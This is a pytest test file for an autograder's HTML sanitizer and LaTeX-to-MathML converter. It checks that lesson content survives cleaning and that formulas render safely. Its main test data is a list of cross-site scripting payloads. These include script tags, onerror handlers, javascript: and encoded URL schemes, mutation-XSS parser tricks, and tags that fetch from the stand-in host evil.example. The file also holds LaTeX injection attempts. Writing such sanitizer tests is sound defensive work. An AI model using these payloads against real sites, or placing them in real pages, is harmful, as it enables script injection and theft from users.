import pytest

from autograder.classroom.safe_html import NO_DESCRIPTION, clean, formula, markdown
from tests.pages import Page

DOT = "data:image/png;base64,iVBORw0KGgo="

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://evil.example/p.png" alt="p">',
    '<img src="//evil.example/p.png">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    f'<img src="{DOT}" srcset="http://evil.example/p.png 2x">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href=" java\tscript:alert(1)">a</a>',
    '<a href="data:text/html,x">a</a>',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>@import url(http://evil.example/x.css)</style>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<div style="background:url(http://evil.example/b)">b</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<video src=http://evil.example/v poster=http://evil.example/p></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '<p title="--><img src=x onerror=alert(1)>"><!-- <script>alert(1)</script> -->',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_harmless(attack: str) -> None:
    for page in (clean(attack), markdown(attack), markdown(f"text {attack} text")):
        assert Page(page).problems == []
        assert "evil.example" not in page.replace("text http", "")


def test_the_examiner_of_these_tests_sees_the_attacks() -> None:
    blind = [attack for attack in ATTACKS if not Page(attack).problems]
    # These do their harm by being parsed in another way, or by other means than loading.
    others = ("<meta", "<noscript", "<p title", "<math")
    assert [attack for attack in blind if not attack.startswith(others)] == []


def test_what_a_lesson_needs_survives() -> None:
    page = clean(
        f'<figure><img src="{DOT}" alt="A dot"></figure><table class="t"><tr><td colspan="2">1'
        "</td></tr></table><details><summary>more</summary></details><kbd>Enter</kbd>"
        '<a href="https://pytorch.org/docs/">docs</a><a href="#top">top</a>'
    )
    assert f'<img src="{DOT}" alt="A dot">' in page
    assert '<table class="t">' in page
    assert 'colspan="2"' in page
    assert "<details><summary>" in page
    assert '<a href="https://pytorch.org/docs/" rel="noopener noreferrer">' in page
    assert '<a href="#top"' in page


def test_a_picture_of_which_nothing_is_said_is_said_to_have_no_description() -> None:
    assert Page(clean(f'<img src="{DOT}">')).alternatives == [NO_DESCRIPTION]
    assert Page(clean(f'<img src="{DOT}" alt="">')).alternatives == [""]
    assert Page(clean(f'<img alt="A dot" src="{DOT}">')).alternatives == ["A dot"]


def test_a_picture_from_elsewhere_is_said_to_be_missing() -> None:
    assert "[picture from elsewhere, not shown]" in markdown("![plot](plot.png)")


@pytest.mark.parametrize(
    ("latex", "holds"),
    [
        (r"\nabla f(x) = 4x", "<mo>∇</mo>"),
        (r"\frac{\partial y}{\partial x_i}", "<mfrac>"),
        (r"\begin{aligned} a &= b \\ c &= d \end{aligned}", "<mtable"),
        (r"\begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}", "<mtr>"),
        (r"J^\top v \in \mathbb{R}^n", "ℝ"),
        (r"y = 2x \tag{1}", "<mn>1</mn>"),
        (r"\operatorname{relu}(h)", "<mtext>relu</mtext>"),
        (r"a < b \;\text{if}\; c > d", "<mo>&lt;</mo>"),
    ],
)
def test_formulas_become_mathml(latex: str, holds: str) -> None:
    mathml = formula(latex, "block")
    assert mathml.startswith("<math ")
    assert 'display="block"' in mathml
    assert holds in mathml


@pytest.mark.parametrize("latex", ["x_", "{", r"\left(", r"\frac", "<b>x_"])
def test_what_is_no_formula_is_shown_as_it_is(latex: str) -> None:
    page = Page(formula(latex, "inline"))
    assert page.tags == {"code"}
    assert page.text == latex


@pytest.mark.parametrize(
    "latex",
    [
        r"\text{<script>alert(1)</script>}",
        r"\text{&lt;img src=x onerror=alert(1)&gt;}",
        r"\href{javascript:alert(1)}{x}",
        r"\style{background:url(http://evil.example)}{x}",
        r"\class{score}{x}",
        r"<img src=x onerror=alert(1)>",
    ],
)
def test_a_formula_cannot_carry_markup(latex: str) -> None:
    page = Page(formula(latex, "inline"))
    assert page.problems == []
    assert not page.tags & {"img", "script"}


def test_markdown_knows_all_kinds_of_formula() -> None:
    page = markdown("$a$ and $$b$$\n\n\\begin{align}c &= d\\end{align}\n\n| $e$ | `$f$` |\n|-|-|\n")
    assert page.count("<math") == 4
    assert "<code>$f$</code>" in page


def test_a_formula_does_not_break_out_of_an_attribute() -> None:
    source = (
        '<div title="\n\n$\\text{x}$\n\n<script>alert(1)</script><img src=x onerror=alert(2)> ">'
    )
    page = Page(markdown(source))
    assert page.problems == []
    assert "math" not in page.tags


def test_a_formula_in_an_alternative_text_stays_text() -> None:
    assert Page(markdown(f"![the curve $x^2$]({DOT})")).alternatives == ["the curve $x^2$"]


def test_attachments_are_embedded_and_a_missing_one_is_named() -> None:
    page = markdown("![a](attachment:a.png)", {"a.png": {"image/png": "AAAA"}})
    assert 'src="data:image/png;base64,AAAA"' in page
    assert Page(markdown("![gone](attachment:b.png)", {})).text.strip() == "gone"
